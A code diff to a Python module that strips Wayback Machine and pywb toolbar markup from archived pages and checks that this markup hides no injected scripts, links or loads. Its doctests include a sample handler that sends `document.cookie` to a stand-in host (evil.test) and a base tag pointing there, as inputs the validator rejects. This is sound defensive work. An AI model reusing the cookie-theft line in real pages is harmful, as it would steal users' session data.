@@ -54,13 +54,14 @@ _WOMBAT = re.compile(_STATEMENT + r'__wm\.wombat\(\s*"([^"]{0,4096})"\s*,\s*"(\d
                      r'\s*"([^"]{0,4096})"\s*,\s*"([^"]{0,4096})"')
 _TRAILER = re.compile(_STATEMENT + r'__wm\.bt\([^)"]{0,200}"([^"]{0,200})"\s*,\s*"([^"]{0,4096})"'
                       r'\s*,\s*"(\d{4,14})"')
-_ARCHIVED = re.compile(r"<!--\s*FILE ARCHIVED ON (\d\d:\d\d:\d\d \w{3} \d\d, \d{4}) AND "
+_ARCHIVED = re.compile(r"<!--\s*FILE ARCHIVED ON (\d\d?:\d\d:\d\d \w{3} \d\d, \d{4}) AND "
                        r"RETRIEVED FROM THE\s+INTERNET ARCHIVE")
 _WBINFO_URL = re.compile(_STATEMENT + r'wbinfo\.url\s*=\s*"([^"]{0,4096})"')
 _WBINFO_TS = re.compile(_STATEMENT + r'wbinfo\.timestamp\s*=\s*"(\d{4,14})"')
 _WBINFO_PREFIX = re.compile(_STATEMENT + r'wbinfo\.prefix\s*=\s*(?:decodeURI\(\s*)?'
                             r'"([^"]{0,4096})"')
 _SCRIPT_TAG = re.compile(r"<(/?)script\b[^>]{0,4096}>?", re.I)
+_SCRIPT_OPEN = re.compile(r"<script", re.I)
 _MARKS_TRIED = 8  # a page quoting marks before its own replay's is no page we need to read
 
 # archive.today keeps no scripts and no wrapped URLs: its snapshot names the original in the
@@ -106,19 +107,20 @@ _FREE_ATTRIBUTES = frozenset(
     "align alt async border cellpadding cellspacing charset class colspan crossorigin defer "
     "dir for frameborder height id itemprop lang maxlength method name nowrap placeholder "
     "readonly rel role rowspan scrolling size tabindex target title type valign value "
-    "width autocomplete accesskey hidden spellcheck toolbar-mode".split())
+    "width autocomplete accesskey hidden spellcheck toolbar-mode source".split())
 _LOADED_ATTRIBUTES = frozenset(("src", "srcset", "href", "action"))
 _TAG = re.compile(r"""<(/?)([A-Za-z][A-Za-z0-9-]{0,64})((?:[^>"']|"[^"]*"|'[^']*')*)>""")
 _COMMENT = re.compile(r"<!--(?:>|->|.*?--!?>)", re.S)
 _ATTRIBUTE = re.compile(r"""[\s/]*([^\s/>="'<]+)(?:\s*=\s*(?:"([^"]*)"|'([^']*)'|"""
                         r"""([^\s"'=<>`]+)))?""")
-_HANDLER = re.compile(r"\s*(?:(?:this\.(?:focus|select|blur)\(\)|__wm\.\w+\((?:event)?\)|"
-                      r"return\s+(?:false|true))\s*(?:;\s*)?)+")
-_STATIC_PATH = re.compile(r"/(?:(?:_?static|includes)/[\w./-]*|web/submit)(?:[?#][^\s]*)?")
+_STATIC_PATH = re.compile(r"/(?:_?static|includes)/[\w./-]*(?:[?#][^\s]*)?")
+# where the toolbar's search form sends the URL typed in it (`action` only: as a frame's
+# `src`, `/web/submit?url=…` is the archive's copy of another site's page)
+_SUBMIT = re.compile(r"(?i)(?:(?:https?:)?//(?:web\.)?archive\.org)?/web/submit(?:[?#]\S*)?")
 _ARCHIVE_FILES = re.compile(r"/(?:_static|static|includes|services/img)/")  # on archive.org
 _PYWB_FILE = re.compile(r"(?i)(?:https?:)?//([^/?#\\:@]+)(?::\d{1,5})?/static/(?:wombat|"
                         r"wombatProxyMode|wombatWorkers|default_banner|vue/vue_banner|wb_frame|"
-                        r"transclusions|ui)\.(?:js|css)")
+                        r"transclusions|vidrw|ui)\.(?:js|css)")
 _SHARE_HOSTS = ("facebook.com", "twitter.com", "x.com", "linkedin.com", "reddit.com",
                 "tumblr.com", "pinterest.com")  # the toolbar's share box
 _SCAN = re.compile(r"""<!--(?:>|->|.*?--!?>|.*\Z)|<[!?][^>]*>?|"""
@@ -128,20 +130,48 @@ _RAW_TEXT = frozenset(("script", "style", "textarea", "title", "xmp", "iframe", 
 _CSS_URL = re.compile(r"""url\(\s*["']?([^"')\s]*)|@import\s*["']([^"']*)""", re.I)
 _CSS_BAD = re.compile(r"\\|expression|behavior|binding|image-set|@import\s*[^\s\"'u]", re.I)
 _LITERAL = r"""(?:"[^"\\\n]*"|'[^'\\\n]*'|-?\d+(?:\.\d+)?|true|false|null)"""
-_LIST = rf"\s*(?:{_LITERAL}(?:\s*,\s*{_LITERAL})*)?\s*(?:,\s*)?"  # commas required: one parse
-_ARGS = rf"\s*(?:(?:{_LITERAL}|\[{_LIST}\])(?:\s*,\s*(?:{_LITERAL}|\[{_LIST}\]))*)?\s*(?:,\s*)?"
+# each run of blanks has one place to go (a blank after an item is the item's), so a call
+# left open after a megabyte of blanks fails in one pass, not one per way to split them
+_LIST = rf"\s*(?:{_LITERAL}\s*(?:,\s*{_LITERAL}\s*)*(?:,\s*)?)?"  # commas required
+_ITEM = rf"(?:{_LITERAL}|\[{_LIST}\])"
+_ARGS = rf"\s*(?:{_ITEM}\s*(?:,\s*{_ITEM}\s*)*(?:,\s*)?)?"
 _PAIR = rf"{_LITERAL}\s*:\s*{_LITERAL}"
+# the toolbar's handlers: focusing its field, calling the archive's code with the event, the
+# element or literals (2015's `__wm.mv(event,this)`, 2018's `__wm.saveSnapshot(url, time)`),
+# and 2018's share buttons opening the share box's page (`_handler_archives` reads the hosts)
+_CALL_ARG = rf"(?:event|this|{_LITERAL})"
+_SHARE_OPEN = (r"window\.open\(\s*'https://([A-Za-z0-9.-]{1,253})/[^'\\\n]*'\s*,\s*''\s*,"
+               r"\s*'[\w=,]*'\s*\)")
+_HANDLER = re.compile(r"\s*(?:(?:this\.(?:focus|select|blur)\(\)|"
+                      rf"__wm\.\w+\((?:{_CALL_ARG}(?:\s*,\s*{_CALL_ARG})*)?\)|{_SHARE_OPEN}|"
+                      r"return\s+(?:false|true))\s*(?:;\s*)?)+")
+# pywb's framed replay (the default: `mp_`) sends a page opened outside its frame back to
+# the top page, `wbinfo.top_url`: read only beside that URL's literal, set just before (an
+# http one: `javascript:…` there would run)
+_TOP_FRAME = (
+    r"""wbinfo\s*=\s*\{\s*\}\s*;\s*wbinfo\.top_url\s*=\s*(?:"https?://[^"\\\n]*"|"""
+    r"""'https?://[^'\\\n]*')\s*;\s*"""
+    r"(?://[ \t]*Fast Top-Frame Redirect[ \t]*\n\s*)?"
+    r"if\s*\(\s*window\s*==\s*window\.top\s*&&\s*wbinfo\.top_url\s*\)\s*\{\s*"
+    r"var\s+loc\s*=\s*window\.location\.href\.replace\(\s*window\.location\.hash\s*,\s*\"\"\s*\)"
+    r"\s*;\s*loc\s*=\s*decodeURI\(\s*loc\s*\)\s*;\s*"
+    r"if\s*\(\s*loc\s*!=\s*decodeURI\(\s*wbinfo\.top_url\s*\)\s*\)\s*\{\s*"
+    r"window\.location\.href\s*=\s*wbinfo\.top_url\s*\+\s*window\.location\.hash\s*;?\s*\}\s*\}")
 _STATEMENTS = re.compile(
     r"(?:\s|;|//<!\[CDATA\[|//\]\]>|"
-    rf"(?:__wm|__wbhack)\.\w+\({_ARGS}\)|"
+    rf"(?:__wm|__wbhack)\.\w+\({_ARGS}\)|{_TOP_FRAME}|window\.devicePixelRatio\s*=\s*1|"
     rf"wbinfo(?:\.\w+)?\s*=\s*(?:{_LITERAL}|\{{\s*\}}|decodeURI\(\s*{_LITERAL}\s*\))|"
     r"if\s*\(\s*window\s*&&\s*window\._WBWombatInit\s*\)\s*\{\s*"
     r"window\._WBWombatInit\(\s*wbinfo\s*\)\s*;?\s*\}|"
     r"window\.RufflePlayer\s*=\s*window\.RufflePlayer\s*\|\|\s*\{\}|"
-    rf"window\.RufflePlayer\.config\s*=\s*\{{\s*(?:{_PAIR}(?:\s*,\s*{_PAIR})*)?\s*(?:,\s*)?\}}|"
+    rf"window\.RufflePlayer\.config\s*=\s*\{{\s*(?:{_PAIR}\s*(?:,\s*{_PAIR}\s*)*(?:,\s*)?)?\}}|"
     r"window\.addEventListener\(\s*'DOMContentLoaded'\s*,\s*function\s*\(\)\s*\{\s*"
     r"var\s+v\s*=\s*archive_analytics\.values\s*;(?:\s*v\.\w+\s*=\s*(?:'[^'\\\n]*'|\d+)\s*;)*"
     r"\s*archive_analytics\.send_pageview\(\s*\{\s*\}\s*\)\s*;?\s*\}\s*\))*")
+# a link to an archive's capture: `/web/<time><mod>/`, pywb's `/<coll>/<time><mod>/`, or the
+# list `/web/*/`, then the page captured, with or without its scheme
+_WRAPPED_LINK = re.compile(r"(?i)/(?:[^/?#]+/){0,3}?(?:\d{1,14}\*?|\*)(?:[a-z]{2}_)?/+"
+                           r"(?:[a-z][a-z0-9+.-]*:/*)?([^/?#:@]+)")
 _STRING_HOST = re.compile(r"""(?:https?:)?//([A-Za-z0-9.-]{1,253})""", re.I)
 _MARKUP = re.compile(r"<!--.*?(?:-->|\Z)|<(/?[A-Za-z][A-Za-z0-9-]{0,64})[^>]*>?", re.S)
 _TODAY_CHROME: tuple[_Region, ...] = (
@@ -152,7 +182,9 @@ _NOTHING = re.compile(r"(?!)")  # archive.today wraps no URL
 _ARCHIVES = ("archive.org", "archive-it.org")  # their playback's own hosts
 _REPLAYERS = (*_ARCHIVES, "replayweb.page")  # hosts whose wrappers are the archive's
 # what chrome may load, what its calls name, the hosts serving pywb's own files
-_Hosts = tuple[frozenset[str], frozenset[str], frozenset[str]]
+# and whether a path from the root is the page's own host's (no `<base>` sends it elsewhere)
+_Hosts = tuple[frozenset[str], frozenset[str], frozenset[str], bool]
+_BASE_HREF = re.compile(r"""<base\b[^>]*?\bhref\s*=\s*["']?([^"'\s>]*)""", re.I)
 
 
 @dataclass(frozen=True, slots=True)
@@ -281,8 +313,18 @@ def unwrapped(doc: Document, held: frozenset[bytes] = MARKS) -> tuple[Document, 
     loads = frozenset((*_ARCHIVES, *(ARCHIVE_TODAY_HOSTS if found.archive == ARCHIVE_TODAY
                                      else ())))
     replayer = frozenset(h.lower() for h in found.hosts)  # pywb's, on any host: its files
-    own = (loads, loads | replayer | {host_of(original).lower() if original else "a.invalid"},
-           replayer)
+    # the page the chrome may name is the one audited: the URL the user gave or the archive
+    # served it at says whose; the marks' original (any page can write casino.test there)
+    # counts only as the same site, else a hidden block of links to it was the toolbar's
+    audited = (unwrapped_url if served and unwrapped_url != served else None) or (
+        doc.url if doc.url and not served else None)
+    named = {h.lower() for h in (host_of(audited) if audited else None,
+                                 host_of(original) if original else None) if h}
+    if audited and original and not _same_site(host_of(audited) or "", host_of(original) or ""):
+        named = {(host_of(audited) or "").lower()}
+    named |= {h.removeprefix("www.") for h in named}  # its links name youtube.com too
+    own = (loads, loads | replayer | frozenset(named or {"a.invalid"}), replayer,
+           not _base_elsewhere(doc.text, loads | replayer, served_host))
     return dataclasses.replace(
         doc,
         text=clean(doc.text),
@@ -290,6 +332,36 @@ def unwrapped(doc: Document, held: frozenset[bytes] = MARKS) -> tuple[Document, 
         readings=tuple((name, clean(text)) for name, text in doc.readings),
         header_links=wrapper.sub("", doc.header_links),
     ), replay
+
+
+def _same_site(a: str, b: str) -> bool:
+    """Whether two hosts are one site's (`www.a.test` and `a.test`)."""
+    a, b = a.lower().rstrip("."), b.lower().rstrip(".")
+    return a == b or a.endswith("." + b) or b.endswith("." + a)
+
+
+def _base_elsewhere(text: str, archives: frozenset[str], served: str | None) -> bool:
+    """Whether a `<base href>` of the page (any of them: a browser takes the first, which a
+    string before it may only seem to be) sends paths from the root to a host that is not
+    the archive's or the page's: `/static/x.html` is then that host's frame.
+
+    >>> _base_elsewhere('<base href="https://evil.test/">', frozenset({"archive.org"}), None)
+    True
+    >>> _base_elsewhere('<base href="https://web.archive.org/web/2023/https://a.test/">'
+    ...                 '<base href="/x/">', frozenset({"archive.org"}), "a.test")
+    False
+    """
+    for m in _BASE_HREF.finditer(text) if "<base" in text.lower() else ():
+        href = re.sub(r"[\x00-\x20]", "", html.unescape(m.group(1))).replace("\\", "/")
+        host = re.match(r"(?i)(?:[a-z][a-z0-9+.-]*:)?//([^/?#:@]*@)?([^/?#:]*)", href)
+        if host is None:
+            if re.match(r"(?i)[a-z][a-z0-9+.-]*:", href):
+                return True  # a base at data: or javascript: is no page's own
+            continue
+        name = host.group(2).lower().rstrip(".")
+        if name != served and not any(name == h or name.endswith("." + h) for h in archives):
+            return True
+    return False
 
 
 def _trusted_archive(host: str, served: str | None) -> bool:
@@ -335,7 +407,8 @@ class _Markup:
             close = re.compile(rf"</{name}\b", re.I)
             stop = close.search(text, pos)
             body_end = stop.start() if stop else len(text)
-            if name == "script" and re.search(r"<!--.*<script", text[pos:body_end], re.S | re.I):
+            escape = text.find("<!--", pos, body_end)  # the first: one search, not one a comment
+            if name == "script" and escape >= 0 and _SCRIPT_OPEN.search(text, escape, body_end):
                 # an escaped script runs past its first end tag (HTML's double-escaped state)
                 past = text.find("-->", body_end)
                 stop = close.search(text, past) if past >= 0 else None
@@ -386,11 +459,12 @@ def _without_head_include(text: str, own: _Hosts) -> str:
 
 
 def _the_archives(region: str, own: frozenset[str], named: frozenset[str],
-                  replayer: frozenset[str] = frozenset()) -> bool:
+                  replayer: frozenset[str] = frozenset(), rooted: bool = True) -> bool:
     r"""Whether a region of chrome is made only of what the archive's chrome holds
     (`_CHROME_TAGS`), loading nothing but from the archive's own hosts (`own`) or static
-    paths, and running only the archive's calls; the URLs its calls' strings hold may also
-    name the page (`named`). Anything else is the page's or an injection's: marks and
+    paths (from the page's root only when `rooted`: no `<base>` sends them elsewhere), and
+    running only the archive's calls; the URLs its calls' strings hold may also name the
+    page (`named`). Anything else is the page's or an injection's: marks and
     chrome comments any page can write must not hide code.
 
     >>> own, named = frozenset({"archive.org"}), frozenset({"archive.org", "a.test"})
@@ -422,14 +496,14 @@ def _the_archives(region: str, own: frozenset[str], named: frozenset[str],
         if tag.group(1):
             continue
         name = tag.group(2).lower()
-        if not _attributes_archives(name, tag.group(3), own, named, replayer):
+        if not _attributes_archives(name, tag.group(3), own, named, replayer, rooted):
             return False
         if name in ("script", "style"):
             close = re.compile(rf"</{name}\b", re.I).search(region, pos)
             if close is None:
                 return False
             body, pos = region[pos:close.start()], close.start()
-            if name == "style" and not _css_archives(body, own):
+            if name == "style" and not _css_archives(body, own, rooted):
                 return False
             if name == "script" and not _code_archives(body, named):
                 return False
@@ -437,7 +511,7 @@ def _the_archives(region: str, own: frozenset[str], named: frozenset[str],
 
 
 def _attributes_archives(name: str, written: str, own: frozenset[str], named: frozenset[str],
-                         replayer: frozenset[str]) -> bool:
+                         replayer: frozenset[str], rooted: bool) -> bool:
     """Whether a chrome element's attributes are all the chrome's: names it uses, loading
     only the archive's, handlers only focusing a field or calling the archive's code."""
     pos = 0
@@ -450,32 +524,57 @@ def _attributes_archives(name: str, written: str, own: frozenset[str], named: fr
         if attribute in _FREE_ATTRIBUTES or attribute.startswith("aria-"):
             continue
         if attribute == "style":
-            if not _css_archives(value, own):
+            if not _css_archives(value, own, rooted):
                 return False
         elif attribute.startswith("on"):
-            if not _HANDLER.fullmatch(value):
+            if not _handler_archives(value, named):
                 return False
-        elif attribute == "href" and name in ("a", "area"):
+        elif attribute == "data-url" or (attribute == "href" and name in ("a", "area")):
             if not _links_archives(value, named):
                 return False
+        elif attribute == "action" and _SUBMIT.fullmatch(value.strip()) and (
+                rooted or value.strip().startswith(("http", "//"))):
+            continue
         elif attribute in _LOADED_ATTRIBUTES:
             urls = [u.split()[0] for u in value.split(",") if u.strip()] if (
                 attribute == "srcset") else [value]
-            if not all(_loads_archives(u, own) or _pywb_file(u, replayer) for u in urls):
+            if not all(_loads_archives(u, own, rooted) or _pywb_file(u, replayer) for u in urls):
                 return False
         else:
             return False
     return not written[pos:].strip(" \t\n\r\f/")
 
 
-def _loads_archives(url: str, own: frozenset[str]) -> bool:
+def _handler_archives(code: str, named: frozenset[str]) -> bool:
+    """Whether an event handler is the toolbar's (`_HANDLER`): a share button opens a share
+    box's page, and the URLs it names are the archive's, the page's or the share box's.
+
+    >>> named = frozenset({"archive.org", "a.test"})
+    >>> _handler_archives("__wm.saveSnapshot('https://a.test/', '20180707155901')", named)
+    True
+    >>> _handler_archives("window.open('https://evil.test/x', '', 'width=600')", named)
+    False
+    >>> _handler_archives("__wm.h(event);fetch('//evil.test/'+document.cookie)", named)
+    False
+    """
+    if not _HANDLER.fullmatch(code):
+        return False
+    if not all(any((m.group(1).lower() == h or m.group(1).lower().endswith("." + h))
+                   for h in _SHARE_HOSTS) for m in re.finditer(_SHARE_OPEN, code)):
+        return False
+    return all(any((h := m.group(1).lower().rstrip(".")) == n or h.endswith("." + n)
+                   for n in (*named, *_SHARE_HOSTS)) for m in _STRING_HOST.finditer(code))
+
+
+def _loads_archives(url: str, own: frozenset[str], rooted: bool = True) -> bool:
     """Whether a URL the chrome loads is the archive's: its own files on its hosts (not a
     replay of another site's, `/web/<time>/…`, nor an item anyone uploads to archive.org,
     `/download/…`) or a static path of the host serving the page."""
     url = re.sub(r"[\t\n\r]", "", url.strip())  # as a browser reads it
     m = re.match(r"(?i)(?:https?:)?//([^/?#\\]+)(/[^?#]*)?", url)
     if m is None:
-        return _STATIC_PATH.fullmatch(url) is not None and ".." not in url and "//" not in url
+        return rooted and _STATIC_PATH.fullmatch(url) is not None and ".." not in url and (
+            "//" not in url)
     host = m.group(1).lower().rstrip(".")
     path = m.group(2) or "/"
     if re.search(r"//|\\|%(?:2e|2f|3a|5c)|\.\.", path, re.I) or not any(
@@ -488,11 +587,19 @@ def _links_archives(url: str, named: frozenset[str]) -> bool:
     """Whether a chrome link leads where the archive's toolbar links: the archive's pages,
     the page's own, a share box (a block of links to other sites is a link farm's)."""
     url = re.sub(r"[\x00-\x20]", "", url).replace("\\", "/")  # as a browser reads it
-    m = re.match(r"(?i)(?:https?:)?//([^/?#:@]+)", url)
-    if m is None:  # from the root or relative; no script link (it runs here)
-        return re.match(r"(?i)[a-z][a-z0-9+.-]*:", url) is None
-    host = m.group(1).lower().rstrip(".")
-    return any(host == h or host.endswith("." + h) for h in (*named, *_SHARE_HOSTS))
+    m = re.match(r"(?i)(?:https?:)?//([^/?#]*)", url)
+    if m is None and re.match(r"(?i)[a-z][a-z0-9+.-]*:", url):
+        return False  # a script link runs here
+    # the host after any user name (`//web.archive.org@casino.test/` is casino.test), and
+    # the page an archive's link replays (`/web/2023/https://casino.test/`, scheme or not)
+    # or names (`?u=https://…`): the toolbar links to its captures of this page
+    hosts = [re.sub(r":\d*$", "", m.group(1).rsplit("@", 1)[-1])] if m else []
+    path = url[m.end():] if m else url
+    if wrapped := _WRAPPED_LINK.match(path):
+        hosts.append(wrapped.group(1))
+    hosts += [h.group(1) for h in _STRING_HOST.finditer(path)]
+    return all(any((h := host.lower().rstrip(".")) == n or h.endswith("." + n)
+                   for n in (*named, *_SHARE_HOSTS)) for host in hosts)
 
 
 def _pywb_file(url: str, replayer: frozenset[str]) -> bool:
@@ -501,11 +608,11 @@ def _pywb_file(url: str, replayer: frozenset[str]) -> bool:
     return m is not None and m.group(1).lower() in replayer
 
 
-def _css_archives(css: str, own: frozenset[str]) -> bool:
+def _css_archives(css: str, own: frozenset[str], rooted: bool = True) -> bool:
     """Whether the chrome's style loads only the archive's (no escapes hiding a url())."""
     if _CSS_BAD.search(css):
         return False
-    return all(_loads_archives(m.group(1) or m.group(2) or "", own)
+    return all(_loads_archives(m.group(1) or m.group(2) or "", own, rooted)
                for m in _CSS_URL.finditer(css))
 
 
